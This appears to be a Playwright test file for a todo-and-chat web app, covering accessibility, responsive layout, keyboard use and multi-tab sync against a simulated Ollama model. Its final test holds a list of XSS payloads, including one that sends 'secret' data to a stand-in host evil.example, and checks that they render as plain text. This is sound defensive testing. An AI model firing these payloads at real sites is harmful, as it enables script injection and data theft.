@@ -1,0 +1,499 @@
+"""What the page is like to use: for eyes, for fingers, for those who have only a keyboard or only ears."""
+
+import os
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from tests.support.axe import AXE
+from tests.support.browser import EVERYTHING, Chromium, Tab
+from tests.support.harness import ROOT, System
+from tests.support.ollama_double import Done, Line, Model, OllamaDouble, Say, Step, Tell, Think, Wait, speech
+
+SCREENSHOTS = ROOT / "docs" / "screenshots"
+THEMES = ("light", "dark", "matrix")
+OTHER_APPS = ("journal", "profiles")
+SCREENS = {"desktop": (1280, 800), "phone": (390, 844), "narrow": (360, 640)}
+
+ADVICE = """\
+Three things make a *soft* touch, in this order:
+
+1. **Weight** from the arm, not from the finger.
+2. A wrist that stays loose.
+3. Listening, as in `listen(note)`:
+
+```python
+def touch(weight: float, loose: bool = True) -> str:
+    # what the hammer does with it
+    return "p" if weight < 0.4 and loose else "f"
+```
+
+| touch | hammer | heard as |
+|-------|--------|----------|
+| light | slow   | *p*      |
+| heavy | fast   | *f*      |
+
+> Slow practice is fast progress.
+"""
+
+TITLES = (
+    "Tune the piano",
+    "Water the plants",
+    "Write to Ada, and ask about the second violin",
+    "Sheet music for four hands",
+    "Tell the neighbours about Thursday evening",
+)
+
+LONG = "\n".join(f"Line {number}." for number in range(80))
+
+
+def order(words: str, operation: str) -> list[Step]:
+    return speech(f"{words}\n\n```json\n{operation}\n```")
+
+
+def scene(body: dict[str, Any]) -> list[Step]:
+    """Answer to the last words of the user."""
+    words = body["messages"][-1]["content"]
+    if "touch" in words:
+        return [Think("The user plays. "), Think("So: weight, wrist, ears."), *speech(ADVICE)]
+    if "felt" in words:
+        return order("On it.", '{"operation": "insert", "table": "todo", "values": {"title": "Order new felt"}}')
+    if "second" in words:
+        return order("As you wish.", '{"operation": "delete", "table": "todo", "id": 2}')
+    if "again" in words:
+        return [Say("I was about to"), Line({"error": "the model ran out of breath"})]
+    return speech("Noted.")
+
+
+@pytest.fixture(scope="module")
+def ollama() -> Iterator[OllamaDouble]:
+    models = (
+        Model("qwen3:4b", ("completion", "tools", "thinking"), loaded=True),
+        Model("far:cloud", remote_host="far.away", size=0),
+    )
+    with OllamaDouble(*models, composer=scene) as double:
+        yield double
+
+
+@pytest.fixture(scope="module")
+def stage(ollama: OllamaDouble, chromium: Chromium) -> Iterator[System]:
+    """The whole band, with a list and a conversation that show everything there is to show."""
+    with System({"OLLAMA_HOST": ollama.url}) as system:
+        system.start(*EVERYTHING)
+        with chromium.visit(system) as tab:
+            tab.page.get_by_role("radio", name="Quiet").check()
+            for title in TITLES:
+                tab.add(title)
+                expect(tab.todo(title)).to_be_visible()
+            tab.todo("Water").get_by_role("checkbox").check()
+            converse(tab)
+        yield system
+
+
+def converse(tab: Tab) -> None:
+    tab.say("Play it again")
+    expect(tab.messages("assistant")).to_have_count(1)
+    tab.answered("interrupted")
+    tab.say("Delete the second one")
+    expect(tab.messages("action").last).to_have_attribute("data-state", "proposed")
+    tab.say("How do I get a soft touch?")
+    expect(tab.messages("assistant")).to_have_count(3)
+    tab.answered()
+    tab.say("We are out of felt")
+    expect(tab.messages("action").last).to_have_attribute("data-state", "applied")
+
+
+@pytest.fixture
+def tab(stage: System, chromium: Chromium) -> Iterator[Tab]:
+    with chromium.visit(stage) as tab:
+        yield tab
+
+
+@pytest.fixture
+def fresh(tab: Tab) -> Tab:
+    """A tab with an empty conversation."""
+    tab.page.get_by_role("button", name="New conversation").click()
+    expect(tab.page.locator("#chat-log article")).to_have_count(0)
+    return tab
+
+
+@pytest.fixture
+def room(band: Any, chromium: Chromium) -> Iterator[Tab]:
+    """A tab of a band of its own, with two todos."""
+    with chromium.visit(band.system) as tab:
+        tab.page.get_by_role("radio", name="Quiet").check()
+        for title in ("first", "second"):
+            tab.add(title)
+            expect(tab.todo(title)).to_be_visible()
+        yield tab
+
+
+def choose(tab: Tab, theme: str) -> None:
+    """Choose the colours as a user does."""
+    controls = tab.page.locator("#controls-button")
+    if controls.is_visible():
+        controls.click()
+    tab.page.locator(f"#theme-{theme}").check()
+    expect(tab.page.locator("html")).to_have_attribute("data-theme", theme)
+    if controls.is_visible():
+        tab.page.keyboard.press("Escape")
+
+
+def resize(page: Page, screen: str) -> None:
+    width, height = SCREENS[screen]
+    page.set_viewport_size({"width": width, "height": height})
+
+
+def titles(tab: Tab) -> Locator:
+    return tab.page.locator("#todo-list > li .title")
+
+
+# --- for eyes ---
+
+
+@pytest.mark.parametrize("screen", SCREENS)
+def test_nothing_is_wider_than_the_screen(tab: Tab, screen: str) -> None:
+    resize(tab.page, screen)
+    for view in ("both", "app", "chat") if screen != "desktop" else ("both",):
+        if screen != "desktop":
+            tab.page.locator(f"#panes-{view}").check()
+        assert tab.page.evaluate("document.documentElement.scrollWidth") <= SCREENS[screen][0]
+        expect(tab.page.locator("#chat-input")).to_be_in_viewport(ratio=1)
+
+
+@pytest.mark.parametrize("width", [1217, 1280, 1366, 1440, 1536, 1920])
+def test_on_a_wide_screen_the_bar_names_profile_and_persona_in_full(tab: Tab, width: int) -> None:
+    tab.page.set_viewport_size({"width": width, "height": 800})
+    tab.page.locator("#model-menu > summary .chosen").evaluate(
+        "element => element.textContent = 'long-name:70b-instruct-q4'"
+    )
+
+    for menu in ("profile", "persona"):
+        expect(tab.page.locator(f"#{menu}-menu > summary")).to_be_in_viewport(ratio=1)
+        name = tab.page.locator(f"#{menu}-menu > summary .chosen")
+        assert name.evaluate("element => element.scrollWidth <= element.clientWidth")
+
+
+def test_on_a_narrow_screen_everything_is_in_reach(tab: Tab) -> None:
+    resize(tab.page, "narrow")
+
+    expect(tab.page.locator("#todo-form input[name=title]")).to_be_in_viewport(ratio=1)
+    tab.page.locator("#controls-button").click()
+
+    for control in ("#mode-chatty", "#theme-dark", "#model-menu > summary"):
+        expect(tab.page.locator(control)).to_be_in_viewport(ratio=1)
+
+
+def test_the_theme_is_the_same_in_all_tabs_and_after_a_reload(tab: Tab) -> None:
+    other = tab.second()
+
+    choose(tab, "matrix")
+
+    expect(other.page.locator("html")).to_have_attribute("data-theme", "matrix")
+    other.reload()
+    expect(other.page.locator("html")).to_have_attribute("data-theme", "matrix")
+    assert other.page.evaluate("getComputedStyle(document.body).fontFamily").find("mono") >= 0
+    choose(tab, "light")
+
+
+@pytest.mark.skipif(os.environ.get("PIANOLA_SCREENSHOTS") != "1", reason="only when PIANOLA_SCREENSHOTS=1")
+def test_screenshots(stage: System, chromium: Chromium) -> None:
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    with chromium.visit(stage, bypass_csp=True) as tab:  # taking one without movement needs a style in the page
+        for theme in THEMES:
+            choose(tab, theme)
+            for screen in SCREENS:
+                shoot(tab, screen, f"{theme}-{screen}")
+            resize(tab.page, "desktop")
+        for app in OTHER_APPS:
+            tab.page.goto(f"{tab.base}/apps/{app}")
+            tab.connected()
+            for theme in ("light", "dark"):
+                choose(tab, theme)
+                for screen in ("desktop", "phone"):
+                    shoot(tab, screen, f"{app}-{theme}-{screen}")
+                resize(tab.page, "desktop")
+        choose(tab, "light")
+
+
+def shoot(tab: Tab, screen: str, name: str) -> None:
+    resize(tab.page, screen)
+    tab.page.mouse.move(0, 0)
+    tab.page.evaluate("document.activeElement.blur()")
+    tab.page.screenshot(path=SCREENSHOTS / f"{name}.png", animations="disabled")
+
+
+# --- for ears ---
+
+
+@pytest.mark.parametrize("theme", THEMES)
+def test_axe_finds_no_violation(stage: System, chromium: Chromium, theme: str) -> None:
+    with chromium.visit(stage, bypass_csp=True, reduced_motion="reduce") as tab:
+        tab.page.add_script_tag(path=AXE)
+        choose(tab, theme)
+        for screen in ("desktop", "narrow"):
+            resize(tab.page, screen)
+            assert violations(tab.page) == []
+        tab.page.locator("#controls-button").click()
+        tab.page.locator("#model-menu > summary").click()
+        assert violations(tab.page) == []
+        resize(tab.page, "desktop")
+        titles(tab).first.dblclick()
+        assert violations(tab.page) == []
+        tab.page.keyboard.press("Escape")
+        choose(tab, "light")
+
+
+MENUS = ("app", "actions", "profile", "model", "conversation")
+
+
+@pytest.mark.parametrize("screen", ["desktop", "narrow"])
+def test_axe_finds_no_violation_in_what_opens(stage: System, chromium: Chromium, screen: str) -> None:
+    with chromium.visit(stage, bypass_csp=True, reduced_motion="reduce") as tab:
+        tab.page.add_script_tag(path=AXE)
+        resize(tab.page, screen)
+        for menu in MENUS:
+            open_menu(tab, menu)
+            assert violations(tab.page) == []
+            tab.page.keyboard.press("Escape")
+        for opened in (open_help, ask_rename, ask_delete, search):
+            opened(tab)
+            assert violations(tab.page) == []
+            tab.page.keyboard.press("Escape")
+            expect(tab.page.get_by_role("dialog")).to_have_count(0)
+
+
+def open_menu(tab: Tab, menu: str) -> None:
+    summary = tab.page.locator(f"#{menu}-menu > summary")
+    if not summary.is_visible():
+        tab.page.locator("#controls-button").click()
+    summary.click()
+    expect(tab.page.locator(f"#{menu}-menu > .panel")).to_be_visible()
+
+
+def open_help(tab: Tab) -> None:
+    tab.page.evaluate("document.activeElement.blur()")
+    tab.page.keyboard.press("?")
+    expect(tab.page.get_by_role("dialog", name="Help")).to_be_visible()
+
+
+def ask_rename(tab: Tab) -> None:
+    open_menu(tab, "conversation")
+    tab.page.get_by_role("button", name="Rename “").first.click()
+    expect(tab.page.get_by_role("dialog", name="Rename the conversation")).to_be_visible()
+
+
+def ask_delete(tab: Tab) -> None:
+    open_menu(tab, "conversation")
+    tab.page.locator("#conversation-menu").get_by_role("button", name="Delete “").first.click()
+    expect(tab.page.get_by_role("dialog", name="Delete “")).to_be_visible()
+
+
+def search(tab: Tab) -> None:
+    tab.page.keyboard.press("Control+k")
+    tab.page.keyboard.type("felt")
+    expect(tab.page.get_by_role("option").first).to_be_visible()
+    tab.page.keyboard.press("ArrowDown")
+
+
+def violations(page: Page) -> list[str]:
+    found = page.evaluate("async () => (await axe.run()).violations")
+    return [f"{one['id']}: {node['html'][:200]} {node['failureSummary']}" for one in found for node in one["nodes"]]
+
+
+def test_the_log_is_busy_while_an_answer_is_written(fresh: Tab, ollama: OllamaDouble) -> None:
+    written, go_on = threading.Event(), threading.Event()
+    ollama.play([Say("One, "), Tell(written), Wait(go_on), Say("two."), Done()])
+
+    fresh.say("count")
+
+    log = fresh.page.get_by_role("log")
+    expect(fresh.answer().locator(".text")).to_have_text("One, ")
+    expect(log).to_have_attribute("aria-busy", "true")
+    go_on.set()
+    assert fresh.answered() == "One, two."
+    expect(log).to_have_attribute("aria-busy", "false")
+
+
+# --- for fingers on keys ---
+
+
+def test_the_first_key_leads_past_the_list(tab: Tab) -> None:
+    tab.page.keyboard.press("Tab")
+    expect(tab.page.get_by_role("link", name="Skip to the chat")).to_be_focused()
+
+    tab.page.keyboard.press("Enter")
+
+    expect(tab.page.locator("#chat-input")).to_be_focused()
+
+
+def test_a_message_is_written_sent_and_stopped_by_keyboard(fresh: Tab, ollama: OllamaDouble) -> None:
+    ollama.play([Say("Well "), Wait(threading.Event())])
+    keys = fresh.page.keyboard
+
+    keys.press("/")
+    keys.type("two")
+    keys.press("Shift+Enter")
+    keys.type("lines")
+    keys.press("Enter")
+
+    expect(fresh.messages("user").locator(".text")).to_have_text("two\nlines")
+    expect(fresh.page.locator("#chat-input")).to_have_value("")
+    expect(fresh.answer().locator(".text")).to_have_text("Well ")
+    keys.press("Escape")
+    assert fresh.answered("stopped") == "Well"
+    expect(fresh.answer().get_by_role("button", name="Continue")).to_be_visible()
+
+
+def test_the_list_is_kept_by_keyboard(room: Tab) -> None:
+    keys = room.page.keyboard
+    room.todo("first").get_by_role("checkbox").focus()
+
+    keys.press("Space")
+    expect(room.todo("first")).to_have_attribute("data-done", "")
+    expect(room.todo("first").get_by_role("checkbox")).to_be_focused()
+
+    keys.press("Alt+ArrowDown")
+    expect(titles(room)).to_have_text(["second", "first"])
+    expect(room.todo("first").get_by_role("checkbox")).to_be_focused()
+    room.reload()
+    expect(titles(room)).to_have_text(["second", "first"])
+
+    room.todo("second").get_by_role("button", name="Edit").focus()
+    keys.press("Enter")
+    keys.type("third")
+    keys.press("Enter")
+    expect(titles(room)).to_have_text(["third", "first"])
+
+    room.todo("third").get_by_role("button", name="Edit").press("Enter")
+    keys.type("never")
+    keys.press("Escape")
+    expect(titles(room)).to_have_text(["third", "first"])
+
+    room.todo("third").get_by_role("button", name="Delete").press("Enter")
+    expect(titles(room)).to_have_text(["first"])
+    expect(room.todo("first").get_by_role("button", name="Delete")).to_be_focused()
+
+
+def test_a_row_is_dragged_to_its_place(room: Tab) -> None:
+    other = room.second()
+    handle = room.todo("second").locator("[data-move]")
+    room.todo("second").hover()
+
+    handle.drag_to(room.todo("first").locator("[data-move]"))
+
+    for one in (room, other):
+        expect(titles(one)).to_have_text(["second", "first"])
+
+
+# --- what a page must not do to its user ---
+
+
+def test_an_open_edit_survives_what_others_do_to_the_list(room: Tab) -> None:
+    other = room.second()
+    titles(room).first.dblclick()
+    room.page.keyboard.type("mine, unfini")
+
+    other.todo("first").get_by_role("checkbox").check()
+    other.add("fourth")
+    other.todo("fourth").get_by_role("checkbox").focus()
+    other.page.keyboard.press("Alt+ArrowUp")
+    expect(titles(room)).to_have_text(["first", "fourth", "second"])
+    room.page.keyboard.type("shed")
+    room.page.keyboard.press("Enter")
+
+    for one in (room, other):
+        expect(titles(one)).to_have_text(["mine, unfinished", "fourth", "second"])
+        expect(one.todo("mine")).to_have_attribute("data-done", "")
+
+
+def test_who_scrolled_up_stays_there_while_text_comes(fresh: Tab, ollama: OllamaDouble) -> None:
+    written, go_on = threading.Event(), threading.Event()
+    ollama.play([Say(LONG), Tell(written), Wait(go_on), Say(LONG), Done()])
+    fresh.say("a long one")
+    scroller, end = fresh.page.locator("#chat-scroll"), fresh.page.locator("#chat-end")
+    expect(fresh.answer().locator(".text")).to_contain_text("Line 79.")
+    expect(end).to_be_hidden()
+
+    scroller.hover()
+    fresh.page.mouse.wheel(0, -600)
+    expect(end).to_be_visible()
+    before = scroller.evaluate("element => element.scrollTop")
+    go_on.set()
+    fresh.answered()
+
+    assert scroller.evaluate("element => element.scrollTop") == before
+    end.click()
+    expect(end).to_be_hidden()
+
+
+def test_a_refused_text_comes_back_with_the_reason(room: Tab) -> None:
+    title = room.page.locator("#todo-form input[name=title]")
+    title.fill("x" * 3000)
+
+    title.press("Enter")
+
+    expect(room.page.get_by_role("alert")).to_contain_text("at most 2,000 fit")
+    expect(title).to_have_value("x" * 3000)
+
+
+def test_what_is_said_while_the_page_is_cut_off_arrives_once(room: Tab) -> None:
+    room.tolerates_lost_connection = True
+    room.system.kill("web")
+    expect(room.page.locator("#link")).to_have_text("Reconnecting …", timeout=2000)
+
+    room.add("while away")
+    room.system.start("web")
+
+    expect(room.todo("while away")).to_have_count(1)
+    expect(room.page.locator("#link")).to_have_text("")
+    room.reload()
+    expect(titles(room)).to_have_text(["first", "second", "while away"])
+
+
+def test_a_message_and_its_code_are_copied(stage: System, chromium: Chromium) -> None:
+    with chromium.visit(stage, permissions=["clipboard-read", "clipboard-write"]) as tab:
+        tab.page.locator("#conversation-menu > summary").click()
+        tab.page.get_by_role("button", name="Play it again", exact=True).click()
+        answer = tab.messages("assistant").filter(has_text="soft touch")
+        expect(answer.locator("pre")).to_be_visible()
+
+        answer.hover()
+        answer.get_by_role("button", name="Copy the message").click()
+        assert tab.page.evaluate("navigator.clipboard.readText()") == ADVICE
+
+        answer.get_by_role("button", name="Copy the code").click()
+        assert tab.page.evaluate("navigator.clipboard.readText()").startswith("def touch(weight: float")
+
+
+HOSTILE = [
+    "<script>document.title = 'owned'</script>",
+    "<img src=x onerror=\"document.title = 'owned'\">",
+    "<svg onload=\"document.title = 'owned'\"><foreignObject>",
+    "<iframe srcdoc=\"<script>parent.document.title = 'owned'</script>\"></iframe>",
+    '<div hx-get="/healthz" hx-trigger="load" hx-swap-oob="true" id="app">gone</div>',
+    "[click](javascript:document.title='owned') ![x](http://evil.example/?d=secret)",
+    "</article></div><style>@import 'http://evil.example'</style>",
+]
+
+
+def test_hostile_text_is_only_text(fresh: Tab, ollama: OllamaDouble) -> None:
+    everything = "\n\n".join(HOSTILE)
+    ollama.play([*(Say(letter) for letter in everything), Done()])
+
+    fresh.say(everything)
+    fresh.add(HOSTILE[1])
+
+    expect(fresh.todo("onerror")).to_contain_text(HOSTILE[1])
+    fresh.answered()
+    for one in (fresh.messages("user"), fresh.answer(), fresh.todo("onerror")):
+        text = one.locator(".text, .title")
+        assert (
+            text.locator("script, img, svg, iframe, style, form, [onerror], [onload], [hx-get], [id=app]").count() == 0
+        )
+    assert fresh.page.title() == "Todo · Pianola"
+    expect(fresh.page.locator("#app")).to_have_count(1)
+    fresh.todo("onerror").get_by_role("button", name="Delete").press("Enter")
